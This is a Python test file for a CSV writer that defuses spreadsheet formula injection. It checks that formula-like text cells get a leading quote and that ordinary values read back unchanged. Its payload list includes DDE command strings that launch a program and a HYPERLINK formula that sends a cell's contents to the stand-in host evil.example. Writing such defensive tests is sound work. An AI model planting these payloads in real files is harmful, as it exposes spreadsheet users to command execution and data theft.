"""CSV for spreadsheets: text cells that start like a formula get a leading quote and stay quoted; numbers,
empty cells and ordinary text are written as they are, and the file reads back to the same values."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pyarrow.csv as pa_csv
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csv_cells import FORMULA_TRIGGERS, CsvWriter, safe_column, safe_text

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
]


def write(batch: pa.RecordBatch) -> str:
    sink = io.BytesIO()
    writer = CsvWriter(sink, batch.schema)
    writer.write_batch(batch)
    writer.close()
    return sink.getvalue().decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_text_cell_is_written_as_quoted_text(payload: str) -> None:
    batch = pa.record_batch({"utm_campaign": [payload]})
    text = write(batch)
    assert text.startswith('"utm_campaign"\n"\'')  # quoted, and the first character inside is the quote mark
    cells = list(csv.reader(io.StringIO(text)))
    assert cells[1] == ["'" + payload]


def test_numbers_booleans_missing_and_plain_text_are_written_as_they_are() -> None:
    batch = pa.record_batch(
        {
            "campaign": pa.array(["spring sale", None, "", "a-b=c", "e-mail"]),
            "value": pa.array([-3.5, 0.0, None, -1e-9, 12.0]),
            "clicks": pa.array([-3, 0, 1, 2, None], pa.int64()),
            "converted": pa.array([True, False, None, True, False]),
        }
    )
    text = write(batch)
    assert text.splitlines()[1:] == [
        '"spring sale",-3.5,-3,true',
        ",0,0,false",
        '"",,1,',
        '"a-b=c",-1e-9,2,true',
        '"e-mail",12,,false',
    ]
    options = pa_csv.ConvertOptions(
        column_types=batch.schema, strings_can_be_null=True, quoted_strings_can_be_null=False
    )
    back = pa_csv.read_csv(io.BytesIO(text.encode()), convert_options=options)
    assert back.to_batches()[0].equals(batch)


def test_text_that_looks_like_a_number_is_still_text() -> None:
    assert safe_text("-3.5") == "'-3.5" and safe_text("+49 30 1234") == "'+49 30 1234"
    assert safe_text("3.5") == "3.5" and safe_text("") == "" and safe_text("'=1") == "'=1"


def test_dictionary_and_large_text_columns_are_neutralised_too() -> None:
    batch = pa.record_batch(
        {
            "d": pa.array(["=1+1", "ok"]).dictionary_encode(),
            "l": pa.array(["@x", "y"], pa.large_string()),
        }
    )
    assert list(csv.reader(io.StringIO(write(batch))))[1:] == [["'=1+1", "'@x"], ["ok", "y"]]


@given(st.lists(st.one_of(st.none(), st.text(max_size=12)), max_size=30))
def test_every_text_cell_is_safe_and_only_trigger_cells_change(values: list[str | None]) -> None:
    out = safe_column(pa.array(values, pa.string())).to_pylist()
    for before, after in zip(values, out, strict=True):
        if before is None:
            assert after is None
        elif before[:1] and before[0] in FORMULA_TRIGGERS:
            assert after == "'" + before
        else:
            assert after == before
        assert after is None or not (after[:1] and after[0] in FORMULA_TRIGGERS)
